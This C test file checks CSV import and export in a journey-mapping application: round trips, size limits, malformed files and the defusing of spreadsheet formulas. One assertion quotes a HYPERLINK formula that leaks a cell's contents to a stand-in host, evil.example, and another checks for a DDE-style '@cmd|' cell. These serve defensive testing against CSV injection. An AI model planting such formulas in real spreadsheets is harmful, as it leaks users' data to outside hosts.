/* test-io-csv.c
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * CSV export and import: the grid and the card list read back to the same
 * bytes for every journey of the examples; formulas are defused on export and
 * kept as text on import; hostile tables are refused with the row and the
 * column; the preview; adding the journey is one undo step.
 */

#include <glib/gstdio.h>
#include <string.h>
#include <unistd.h>

#include "io/tp-csv-import.h"
#include "io/tp-format.h"
#include "model/tp-card-table.h"
#include "render/tp-export.h"

static GBytes *
text_bytes (const char *text)
{
  return g_bytes_new (text, strlen (text));
}

static char *
bytes_text (GBytes *bytes)
{
  return g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
}

static GPtrArray *
example_projects (void)
{
  g_autofree char *dir_path = g_test_build_filename (G_TEST_DIST, "..", "data", "examples",
                                                     NULL);
  g_autoptr(GDir) dir = g_dir_open (dir_path, 0, NULL);
  GPtrArray *projects = g_ptr_array_new_with_free_func (g_object_unref);
  const char *name;

  g_assert_nonnull (dir);
  while ((name = g_dir_read_name (dir)) != NULL)
    {
      g_autofree char *path = g_build_filename (dir_path, name, NULL);
      g_autoptr(GFile) file = g_file_new_for_path (path);
      g_autoptr(GError) error = NULL;
      TpLoadInfo info = { 0 };
      TpProject *project;

      if (!g_str_has_suffix (name, ".touchpoint"))
        continue;
      project = tp_format_load_file (file, &info, NULL, &error);
      g_assert_no_error (error);
      tp_load_info_clear (&info);
      g_ptr_array_add (projects, project);
    }
  g_assert_cmpuint (projects->len, >=, 3);
  return projects;
}

static TpProject *
import_bytes (GBytes     *bytes,
              TpCsvImport **preview)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TpCsvImport) import = tp_csv_import_parse (bytes, "test.csv", &error);
  TpProject *project;

  g_assert_no_error (error);
  g_assert_nonnull (import);
  project = tp_csv_import_new_project (import, "test");
  if (preview != NULL)
    *preview = g_steal_pointer (&import);
  return project;
}

static TpJourney *
first_journey (TpProject *project)
{
  return g_ptr_array_index (tp_project_get_journeys (project), 0);
}

static void
test_examples_round_trip (void)
{
  g_autoptr(GPtrArray) projects = example_projects ();
  guint n_journeys = 0;

  for (guint p = 0; p < projects->len; p++)
    {
      GPtrArray *journeys = tp_project_get_journeys (g_ptr_array_index (projects, p));

      for (guint j = 0; j < journeys->len; j++, n_journeys++)
        {
          TpJourney *journey = g_ptr_array_index (journeys, j);
          g_autoptr(GBytes) grid = tp_export_csv (journey, NULL);
          g_autoptr(GBytes) cards = tp_export_csv_cards (journey);
          g_autoptr(TpProject) from_grid = import_bytes (grid, NULL);
          g_autoptr(TpProject) from_cards = import_bytes (cards, NULL);
          g_autoptr(GBytes) grid_again = tp_export_csv (first_journey (from_grid), NULL);
          g_autoptr(GBytes) cards_again = tp_export_csv_cards (first_journey (from_cards));
          GPtrArray *original = tp_journey_get_cards (journey);

          g_assert_true (g_bytes_equal (grid, grid_again));
          g_assert_true (g_bytes_equal (cards, cards_again));
          g_assert_cmpuint (tp_journey_get_phases (first_journey (from_grid))->len, ==,
                            tp_journey_get_phases (journey)->len);
          g_assert_cmpuint (tp_journey_get_lanes (first_journey (from_grid))->len, ==,
                            tp_journey_get_lanes (journey)->len);

          /* The card list keeps every field of every card, under its id. */
          for (guint c = 0; c < original->len; c++)
            {
              TpCard *card = g_ptr_array_index (original, c);
              TpElement *copy = tp_project_lookup (from_cards,
                                                   tp_element_get_id (TP_ELEMENT (card)));

              g_assert_true (TP_IS_CARD (copy));
              g_assert_cmpstr (tp_card_get_title (card), ==, tp_card_get_title (TP_CARD (copy)));
              g_assert_cmpstr (tp_card_get_description (card), ==,
                               tp_card_get_description (TP_CARD (copy)));
              g_assert_cmpint (tp_card_get_kind (card), ==, tp_card_get_kind (TP_CARD (copy)));
              g_assert_cmpint (tp_card_get_evidence (card), ==,
                               tp_card_get_evidence (TP_CARD (copy)));
              if (tp_card_get_kind (card) == TP_CARD_KIND_EMOTION)
                {
                  g_assert_cmpint (tp_card_get_emotion_score (card), ==,
                                   tp_card_get_emotion_score (TP_CARD (copy)));
                  g_assert_cmpstr (tp_card_get_feeling (card), ==,
                                   tp_card_get_feeling (TP_CARD (copy)));
                }
              if (tp_card_get_kind (card) == TP_CARD_KIND_TOUCHPOINT)
                {
                  g_assert_cmpint (tp_card_get_channel (card), ==,
                                   tp_card_get_channel (TP_CARD (copy)));
                  g_assert_cmpstr (tp_card_get_department (card), ==,
                                   tp_card_get_department (TP_CARD (copy)));
                  g_assert_cmpuint (tp_card_get_metrics (card)->len, ==,
                                    tp_card_get_metrics (TP_CARD (copy))->len);
                }
              if (tp_card_get_kind (card) == TP_CARD_KIND_PAIN_POINT)
                g_assert_cmpint (tp_card_get_severity (card), ==,
                                 tp_card_get_severity (TP_CARD (copy)));
              if (tp_card_get_kind (card) == TP_CARD_KIND_OPPORTUNITY)
                {
                  g_assert_cmpint (tp_card_get_impact (card), ==,
                                   tp_card_get_impact (TP_CARD (copy)));
                  g_assert_cmpint (tp_card_get_effort (card), ==,
                                   tp_card_get_effort (TP_CARD (copy)));
                }
            }
        }
    }
  g_assert_cmpuint (n_journeys, >=, 6);
}

/* A small journey: two phases, the lanes of @kinds, titles as given. */
static TpJourney *
make_journey (TpProject  *project,
              const char *phase_titles[],
              guint       n_phases)
{
  g_autoptr(TpJourney) journey = tp_journey_new (NULL);

  tp_project_insert (project, project, TP_LIST_JOURNEYS, -1, journey);
  for (guint i = 0; i < n_phases; i++)
    {
      g_autoptr(TpPhase) phase = tp_phase_new (NULL);

      g_object_set (phase, "title", phase_titles[i], NULL);
      tp_project_insert (project, journey, TP_LIST_PHASES, -1, phase);
    }
  return journey;
}

static TpLane *
add_lane (TpProject  *project,
          TpJourney  *journey,
          TpLaneKind  kind,
          const char *title)
{
  g_autoptr(TpLane) lane = tp_lane_new (NULL, kind);

  g_object_set (lane, "title", title, NULL);
  tp_project_insert (project, journey, TP_LIST_LANES, -1, lane);
  return lane;
}

static void
test_formulas_export (void)
{
  g_autoptr(TpProject) project = tp_project_new ();
  const char *phases[] = { "=Phase", "Purchase" };
  TpJourney *journey = make_journey (project, phases, 2);
  TpLane *feelings = add_lane (project, journey, TP_LANE_KIND_FEELINGS, "Feelings");
  TpLane *notes = add_lane (project, journey, TP_LANE_KIND_TEXT, "@notes");
  TpPhase *first = g_ptr_array_index (tp_journey_get_phases (journey), 0);
  TpPhase *second = g_ptr_array_index (tp_journey_get_phases (journey), 1);
  TpCard *card;
  g_autoptr(GBytes) grid = NULL;
  g_autoptr(GBytes) cards = NULL;
  g_autofree char *grid_text = NULL;
  g_autofree char *cards_text = NULL;

  card = tp_project_add_card (project, first, feelings, -1, TP_CARD_KIND_EMOTION, "-worried");
  tp_project_set (project, card, "emotion-score", -2, "feeling", "+anxious", NULL);
  tp_project_add_card (project, second, notes, -1, TP_CARD_KIND_NOTE, "-5");
  tp_project_add_card (project, second, feelings, -1, TP_CARD_KIND_EMOTION, "=1+1");
  tp_project_add_card (project, second, feelings, -1, TP_CARD_KIND_EMOTION, "=2");
  card = tp_project_add_card (project, first, notes, -1, TP_CARD_KIND_NOTE, "a\r\nb");
  /* The blueprint's fields: an owner on any card, a fail point, a duration. */
  tp_project_set (project, card, "department", "IT", "fail-point", TRUE,
                  "fail-point-severity", 4, "duration", 2.5, NULL);

  grid = tp_export_csv (journey, NULL);
  grid_text = bytes_text (grid);
  g_assert_cmpstr (grid_text, ==,
                   "Lane,'=Phase,Purchase\r\n"
                   "Feelings,'-worried,\"'=1+1\n=2\"\r\n"
                   "'@notes,\"a\nb\",-5\r\n");

  cards = tp_export_csv_cards (journey);
  cards_text = bytes_text (cards);
  /* Numbers are numbers: the score −2 is not a formula and stays a number. */
  g_assert_nonnull (strstr (cards_text, ",'=Phase,Feelings,feelings,emotion,'-worried,"));
  g_assert_nonnull (strstr (cards_text, ",-2,'+anxious,"));

  /* And both read back to what was there. */
  {
    g_autoptr(TpCsvImport) preview = NULL;
    g_autoptr(TpProject) back = import_bytes (grid, &preview);
    g_autoptr(GBytes) again = tp_export_csv (first_journey (back), NULL);

    g_assert_cmpstr (tp_csv_import_get_phase (preview, 0), ==, "=Phase");
    g_assert_cmpstr (tp_csv_import_get_lane (preview, 1), ==, "@notes");
    g_assert_null (tp_csv_import_get_warnings (preview)[1]);
    g_assert_true (g_bytes_equal (grid, again));
  }
  {
    g_autoptr(TpProject) back = import_bytes (cards, NULL);
    g_autoptr(GBytes) again = tp_export_csv_cards (first_journey (back));
    TpCard *copy = TP_CARD (tp_project_lookup (back, tp_element_get_id (TP_ELEMENT (card))));

    g_assert_true (g_bytes_equal (cards, again));
    g_assert_cmpstr (tp_card_get_department (copy), ==, "IT");
    g_assert_true (tp_card_get_fail_point (copy));
    g_assert_cmpint (tp_card_get_fail_point_severity (copy), ==, 4);
    g_assert_cmpfloat (tp_card_get_duration (copy), ==, 2.5);
  }
  g_assert_nonnull (strstr (cards_text, ",IT,,,,,,true,4,2.5\r\n"));
}

static char *
hostile_path (const char *name)
{
  return g_test_build_filename (G_TEST_DIST, "hostile", "csv", name, NULL);
}

static void
test_formulas_import (void)
{
  g_autofree char *path = hostile_path ("formulas.csv");
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;
  g_autoptr(TpCsvImport) import = tp_csv_import_parse_file (file, "formulas.csv", NULL, &error);
  g_autoptr(TpProject) project = NULL;
  g_autoptr(GBytes) again = NULL;
  g_autofree char *text = NULL;
  const char * const *warnings;
  GPtrArray *cards;

  g_assert_no_error (error);
  warnings = tp_csv_import_get_warnings (import);
  /* Five formulas listed one by one, the sixth counted; "-5" is a number, not a formula. */
  g_assert_cmpstr (warnings[0], ==, "row 2, column B: a formula, imported as text (it is not run)");
  g_assert_cmpstr (warnings[1], ==, "row 2, column C: a formula, imported as text (it is not run)");
  g_assert_cmpstr (warnings[2], ==, "row 3, column B: a formula, imported as text (it is not run)");
  g_assert_cmpstr (warnings[3], ==, "row 3, column C: a formula, imported as text (it is not run)");
  g_assert_cmpstr (warnings[4], ==, "row 4, column A: a formula, imported as text (it is not run)");
  g_assert_nonnull (strstr (warnings[6], "1 more formula, imported as text"));

  project = tp_csv_import_new_project (import, "formulas");
  cards = tp_journey_get_cards (first_journey (project));
  g_assert_cmpstr (tp_card_get_title (g_ptr_array_index (cards, 0)), ==,
                   "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");

  /* Exported again, no cell starts a formula. */
  again = tp_export_csv (first_journey (project), NULL);
  text = bytes_text (again);
  g_assert_null (strstr (text, ",="));
  g_assert_null (strstr (text, ",+"));
  g_assert_null (strstr (text, ",@"));
  g_assert_null (strstr (text, "\n="));
  g_assert_nonnull (strstr (text, "\"'=HYPERLINK("));
  g_assert_nonnull (strstr (text, "'@cmd|"));
  g_assert_nonnull (strstr (text, ",-5\r\n"));
}

typedef struct {
  const char *name;
  TpCsvError  code;
  const char *where;  /* must appear in the message, or NULL */
} HostileCsv;

static void
test_hostile (void)
{
  static const HostileCsv corpus[] = {
    { "empty.csv", TP_CSV_ERROR_EMPTY, NULL },
    { "only-blank-lines.csv", TP_CSV_ERROR_EMPTY, NULL },
    { "utf16le-bom.csv", TP_CSV_ERROR_ENCODING, "UTF-16" },
    { "utf16be-bom.csv", TP_CSV_ERROR_ENCODING, "UTF-16" },
    { "latin1.csv", TP_CSV_ERROR_ENCODING, "row 2, column B: the text is not valid UTF-8" },
    { "embedded-nul.csv", TP_CSV_ERROR_ENCODING, "row 2, column B: the file holds a NUL byte" },
    { "ragged-short-row.csv", TP_CSV_ERROR_RAGGED,
      "row 2, column C: the row has 2 cells, the header has 3" },
    { "ragged-long-row.csv", TP_CSV_ERROR_RAGGED,
      "row 2, column C: the row has 3 cells, the header has 2" },
    { "unterminated-quote.csv", TP_CSV_ERROR_SYNTAX,
      "row 2, column B: the quoted cell that starts here is never closed" },
    { "quote-in-plain-cell.csv", TP_CSV_ERROR_SYNTAX,
      "row 2, column B: a quote inside a cell that does not start with one" },
    { "text-after-quote.csv", TP_CSV_ERROR_SYNTAX,
      "row 2, column B: text after the closing quote of a cell" },
    { "cards-score-out-of-range.csv", TP_CSV_ERROR_VALUE,
      "row 2, column F: “7” is not a whole number from -3 to 3" },
    { "cards-unknown-kind.csv", TP_CSV_ERROR_VALUE, "row 2, column D: “sticky” is not one of: " },
    { "cards-formula-in-number.csv", TP_CSV_ERROR_VALUE, "row 2, column F: “=1+1” is not a number" },
    { "cards-bad-boolean.csv", TP_CSV_ERROR_VALUE,
      "row 2, column F: “maybe” is neither “true” nor “false”" },
  };
  g_autofree char *dir_path = hostile_path ("");
  g_autoptr(GDir) dir = g_dir_open (dir_path, 0, NULL);
  const char *name;
  guint n_files = 0;

  /* Every file in the folder is listed here, so none is forgotten. */
  while ((name = g_dir_read_name (dir)) != NULL)
    {
      gboolean listed = strcmp (name, "formulas.csv") == 0;

      for (guint i = 0; i < G_N_ELEMENTS (corpus); i++)
        listed |= strcmp (name, corpus[i].name) == 0;
      g_assert_true (listed);
      n_files++;
    }
  g_assert_cmpuint (n_files, ==, G_N_ELEMENTS (corpus) + 1);

  for (guint i = 0; i < G_N_ELEMENTS (corpus); i++)
    {
      g_autofree char *path = hostile_path (corpus[i].name);
      g_autoptr(GFile) file = g_file_new_for_path (path);
      g_autoptr(GError) error = NULL;
      g_autoptr(TpCsvImport) import = NULL;

      g_test_message ("%s", corpus[i].name);
      import = tp_csv_import_parse_file (file, corpus[i].name, NULL, &error);
      g_assert_null (import);
      g_assert_error (error, TP_CSV_ERROR, (int) corpus[i].code);
      g_assert_true (g_str_has_prefix (error->message, corpus[i].name));
      if (corpus[i].where != NULL && strstr (error->message, corpus[i].where) == NULL)
        g_error ("%s: “%s” does not say “%s”", corpus[i].name, error->message, corpus[i].where);
    }
}

static void
test_limits (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GString) cell = g_string_new ("Lane,Discovery\r\nCustomer activity,\"");
  g_autoptr(GBytes) huge_cell = NULL;
  g_autoptr(GBytes) too_large = NULL;
  g_autofree char *big = NULL;
  g_autofree char *path = NULL;
  g_autoptr(GFile) file = NULL;
  int fd;

  /* A cell over 1 MiB. */
  for (guint i = 0; i < TP_CSV_MAX_CELL / 8 + 1; i++)
    g_string_append (cell, "xxxxxxxx");
  g_string_append (cell, "\"\r\n");
  huge_cell = g_string_free_to_bytes (g_steal_pointer (&cell));
  g_assert_null (tp_csv_import_parse (huge_cell, "huge.csv", &error));
  g_assert_error (error, TP_CSV_ERROR, TP_CSV_ERROR_TOO_LARGE);
  g_assert_nonnull (strstr (error->message, "huge.csv: row 2, column B: the cell is longer than"));
  g_clear_error (&error);

  /* 50 MB and one byte, in memory… */
  big = g_malloc (TP_CSV_MAX_BYTES + 1);
  memset (big, 'a', TP_CSV_MAX_BYTES + 1);
  too_large = g_bytes_new_take (g_steal_pointer (&big), TP_CSV_MAX_BYTES + 1);
  g_assert_null (tp_csv_import_parse (too_large, "big.csv", &error));
  g_assert_error (error, TP_CSV_ERROR, TP_CSV_ERROR_TOO_LARGE);
  g_assert_nonnull (strstr (error->message, "larger than 50 MB"));
  g_clear_error (&error);

  /* …and on disk, refused before it is read (a sparse file of 200 MB). */
  fd = g_file_open_tmp ("tp-csv-XXXXXX.csv", &path, &error);
  g_assert_no_error (error);
  g_assert_cmpint (ftruncate (fd, 200 * 1024 * 1024), ==, 0);
  close (fd);
  file = g_file_new_for_path (path);
  g_assert_null (tp_csv_import_parse_file (file, "sparse.csv", NULL, &error));
  g_assert_error (error, TP_CSV_ERROR, TP_CSV_ERROR_TOO_LARGE);
  g_unlink (path);
}

static TpCsvImport *
parse_text (const char *text)
{
  g_autoptr(GBytes) bytes = text_bytes (text);
  g_autoptr(GError) error = NULL;
  TpCsvImport *import = tp_csv_import_parse (bytes, "t.csv", &error);

  g_assert_no_error (error);
  return import;
}

static void
test_dialects (void)
{
  /* UTF-8 with a byte order mark, LF line ends, no final line end. */
  {
    g_autoptr(TpCsvImport) import = parse_text ("\xef\xbb\xbfLane,Discovery,Purchase\n"
                                                "Feelings,Curious,\n"
                                                "Pain points,,\"Slow\nExpensive\"");

    g_assert_cmpint (tp_csv_import_get_layout (import), ==, TP_CSV_LAYOUT_GRID);
    g_assert_cmpuint (tp_csv_import_get_n_phases (import), ==, 2);
    g_assert_cmpstr (tp_csv_import_get_phase (import, 0), ==, "Discovery");
    g_assert_cmpuint (tp_csv_import_get_n_lanes (import), ==, 2);
    g_assert_cmpint (tp_csv_import_get_lane_kind (import, 0), ==, TP_LANE_KIND_FEELINGS);
    g_assert_cmpint (tp_csv_import_get_lane_kind (import, 1), ==, TP_LANE_KIND_PAIN_POINTS);
    g_assert_cmpuint (tp_csv_import_get_n_cards (import), ==, 3);
    g_assert_null (tp_csv_import_get_warnings (import)[0]);
  }
  /* Semicolons and a decimal comma, as Norwegian and Swedish spreadsheets write; CR line ends. */
  {
    g_autoptr(TpCsvImport) import =
      parse_text ("phase;lane;kind;title;conversion_rate;conversion_rate unit\r"
                  "Kjøp;Kontaktpunkter;touchpoint;Kassen;12,5;%\r");
    g_autoptr(TpProject) project = tp_csv_import_new_project (import, "kjøp");
    TpCard *card = g_ptr_array_index (tp_journey_get_cards (first_journey (project)), 0);
    TpMetric *metric = g_ptr_array_index (tp_card_get_metrics (card), 0);

    g_assert_cmpfloat (tp_metric_get_value (metric), ==, 12.5);
    g_assert_cmpstr (tp_metric_get_unit (metric), ==, "%");
    g_assert_cmpint (tp_metric_get_kind (metric), ==, TP_METRIC_KIND_CONVERSION_RATE);
  }
  /* Tabs. */
  {
    g_autoptr(TpCsvImport) import = parse_text ("Lane\tA\tB\nThoughts\tx\ty\n");

    g_assert_cmpuint (tp_csv_import_get_n_phases (import), ==, 2);
    g_assert_cmpuint (tp_csv_import_get_n_cards (import), ==, 2);
  }
}

/* Empty phases and lanes, a header only, a lane of another language. */
static void
test_grid_edges (void)
{
  const char *text = "Lane,Discovery,,Purchase\r\n"
                     "Customer activity,,,\r\n"
                     "Research notes,,,Asked 5 people\r\n"
                     ",,,\r\n";
  g_autoptr(TpCsvImport) import = parse_text (text);
  g_autoptr(TpProject) project = NULL;
  g_autoptr(GBytes) again = NULL;
  g_autofree char *again_text = NULL;

  g_assert_cmpuint (tp_csv_import_get_n_phases (import), ==, 3);
  g_assert_cmpstr (tp_csv_import_get_phase (import, 1), ==, "");
  g_assert_cmpuint (tp_csv_import_get_n_lanes (import), ==, 3);
  g_assert_cmpuint (tp_csv_import_get_n_cards (import), ==, 1);
  g_assert_cmpint (tp_csv_import_get_lane_kind (import, 1), ==, TP_LANE_KIND_TEXT);
  g_assert_cmpstr (tp_csv_import_get_warnings (import)[0], ==,
                   "Lane “Research notes” does not name a kind of lane; "
                   "it becomes a free-text lane");

  /* What the preview shows in each cell: empty ones empty. */
  {
    g_autofree char *empty = tp_csv_import_get_cell_text (import, 0, 0);
    g_autofree char *asked = tp_csv_import_get_cell_text (import, 2, 1);

    g_assert_cmpstr (empty, ==, "");
    g_assert_cmpstr (asked, ==, "Asked 5 people");
  }
  {
    g_autoptr(TpCsvImport) two = parse_text ("Lane,Search\r\nCustomer activity,\"One\nTwo\"\r\n");
    g_autofree char *cell = tp_csv_import_get_cell_text (two, 0, 0);

    g_assert_cmpuint (tp_csv_import_get_n_cards (two), ==, 2);
    g_assert_cmpstr (cell, ==, "One\nTwo");
  }

  project = tp_csv_import_new_project (import, "edges");
  again = tp_export_csv (first_journey (project), NULL);
  again_text = bytes_text (again);
  g_assert_cmpstr (again_text, ==, text);

  {
    g_autoptr(TpCsvImport) header_only = parse_text ("Lane\r\n");

    g_assert_cmpuint (tp_csv_import_get_n_phases (header_only), ==, 0);
    g_assert_cmpuint (tp_csv_import_get_n_lanes (header_only), ==, 0);
  }
}

static void
test_card_list (void)
{
  /* Sorted by lane, not by phase; columns in another order; an unknown column; a bad id. */
  const char *text =
    "title,lane,phase,notes,id,kind,severity\r\n"
    "Can't find sizes,Pain points,Decision,x,p1,pain_point,4\r\n"
    "Slow delivery,Pain points,After-purchase,,p2,,2\r\n"
    "Browses,Customer activity,Discovery,,a 1,,\r\n"
    "Buys,Customer activity,Purchase,,p1,,\r\n";
  g_autoptr(TpCsvImport) import = parse_text (text);
  g_autoptr(TpProject) project = NULL;
  const char * const *warnings = tp_csv_import_get_warnings (import);
  TpJourney *journey;
  GPtrArray *lanes, *cards;

  g_assert_cmpint (tp_csv_import_get_layout (import), ==, TP_CSV_LAYOUT_CARDS);
  g_assert_cmpuint (tp_csv_import_get_n_phases (import), ==, 4);
  g_assert_cmpstr (tp_csv_import_get_phase (import, 0), ==, "Decision");
  g_assert_cmpuint (tp_csv_import_get_n_cards (import), ==, 4);
  g_assert_cmpstr (warnings[0], ==, "row 1, column D: not a card field; the column is skipped");
  g_assert_cmpstr (warnings[1], ==,
                   "row 4, column E: not a valid, unique id; the card gets a new one");
  g_assert_cmpstr (warnings[2], ==,
                   "row 5, column E: not a valid, unique id; the card gets a new one");

  project = tp_csv_import_new_project (import, "list");
  journey = first_journey (project);
  lanes = tp_journey_get_lanes (journey);
  cards = tp_journey_get_cards (journey);
  g_assert_cmpuint (lanes->len, ==, 2);
  g_assert_cmpint (tp_lane_get_kind (g_ptr_array_index (lanes, 0)), ==, TP_LANE_KIND_PAIN_POINTS);
  g_assert_cmpint (tp_card_get_kind (g_ptr_array_index (cards, 1)), ==, TP_CARD_KIND_PAIN_POINT);
  g_assert_cmpint (tp_card_get_severity (g_ptr_array_index (cards, 1)), ==, 2);
  g_assert_cmpint (tp_card_get_kind (g_ptr_array_index (cards, 3)), ==, TP_CARD_KIND_ACTIVITY);
  g_assert_true (TP_IS_CARD (tp_project_lookup (project, "p1")));

  /* Lanes whose order the rows contradict: lanes outside the contradiction
   * come first, then the one seen first breaks the tie. */
  {
    g_autoptr(TpCsvImport) cycle = parse_text ("phase,lane,title\r\n"
                                               "A,Thoughts,1\r\nA,Feelings,2\r\n"
                                               "B,Feelings,3\r\nB,Thoughts,4\r\n"
                                               "C,Touchpoints,5\r\nC,Feelings,6\r\n");

    g_assert_cmpstr (tp_csv_import_get_lane (cycle, 0), ==, "Touchpoints");
    g_assert_cmpstr (tp_csv_import_get_lane (cycle, 1), ==, "Thoughts");
    g_assert_cmpstr (tp_csv_import_get_lane (cycle, 2), ==, "Feelings");
  }
}

/* The preview commits into an open project as one undo step; ids the project
 * already uses are not taken. */
static void
test_add_journey_undo (void)
{
  g_autoptr(GPtrArray) projects = example_projects ();
  TpProject *project = g_ptr_array_index (projects, 0);
  TpJourney *source = first_journey (project);
  g_autoptr(GBytes) cards = tp_export_csv_cards (source);
  g_autoptr(GError) error = NULL;
  g_autoptr(TpCsvImport) import = tp_csv_import_parse (cards, "again.csv", &error);
  guint n_journeys = tp_project_get_journeys (project)->len;
  TpJourney *journey;
  g_autoptr(GBytes) exported = NULL;
  g_autofree char *original_text = bytes_text (cards);
  g_autofree char *exported_text = NULL;
  const char *first_id;

  g_assert_no_error (error);
  journey = tp_csv_import_add_journey (import, project, "Again");
  g_assert_cmpuint (tp_project_get_journeys (project)->len, ==, n_journeys + 1);
  g_assert_cmpstr (tp_journey_get_title (journey), ==, "Again");
  g_assert_cmpstr (tp_project_get_undo_label (project), ==, "Import Table");
  first_id = tp_element_get_id (g_ptr_array_index (tp_journey_get_cards (journey), 0));
  g_assert_cmpstr (first_id, !=,
                   tp_element_get_id (g_ptr_array_index (tp_journey_get_cards (source), 0)));

  /* Same table apart from the ids. */
  exported = tp_export_csv_cards (journey);
  exported_text = bytes_text (exported);
  {
    g_auto(GStrv) before = g_strsplit (original_text, "\r\n", -1);
    g_auto(GStrv) after = g_strsplit (exported_text, "\r\n", -1);

    g_assert_cmpuint (g_strv_length (before), ==, g_strv_length (after));
    for (guint i = 1; before[i] != NULL; i++)
      g_assert_cmpstr (strchr (before[i], ','), ==, strchr (after[i], ','));
  }

  g_assert_true (tp_project_undo (project));
  g_assert_cmpuint (tp_project_get_journeys (project)->len, ==, n_journeys);
  g_assert_true (tp_project_redo (project));
  g_assert_cmpuint (tp_project_get_journeys (project)->len, ==, n_journeys + 1);
}

static void
test_numbers (void)
{
  static const double values[] = { 0, 12.5, -3, 0.1, 1e-7, 123456789012345678.0, 4.2 };
  static const char * const texts[] = { "0", "12.5", "-3", "0.1", "1e-07", "1.2345678901234568e+17",
                                        "4.2" };

  for (guint i = 0; i < G_N_ELEMENTS (values); i++)
    {
      g_autofree char *text = tp_card_table_format_number (values[i]);

      g_assert_cmpstr (text, ==, texts[i]);
      g_assert_true (tp_table_cell_is_number (text));
    }
  g_assert_false (tp_table_cell_is_number ("1e"));
  g_assert_false (tp_table_cell_is_number ("-"));
  g_assert_false (tp_table_cell_is_number ("1,5"));
  g_assert_true (tp_table_cell_is_formula ("-1+2"));
  g_assert_false (tp_table_cell_is_formula ("-1.5e3"));
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/io/csv/examples-round-trip", test_examples_round_trip);
  g_test_add_func ("/io/csv/formulas-export", test_formulas_export);
  g_test_add_func ("/io/csv/formulas-import", test_formulas_import);
  g_test_add_func ("/io/csv/hostile", test_hostile);
  g_test_add_func ("/io/csv/limits", test_limits);
  g_test_add_func ("/io/csv/dialects", test_dialects);
  g_test_add_func ("/io/csv/grid-edges", test_grid_edges);
  g_test_add_func ("/io/csv/card-list", test_card_list);
  g_test_add_func ("/io/csv/add-journey-undo", test_add_journey_undo);
  g_test_add_func ("/io/csv/numbers", test_numbers);

  return g_test_run ();
}
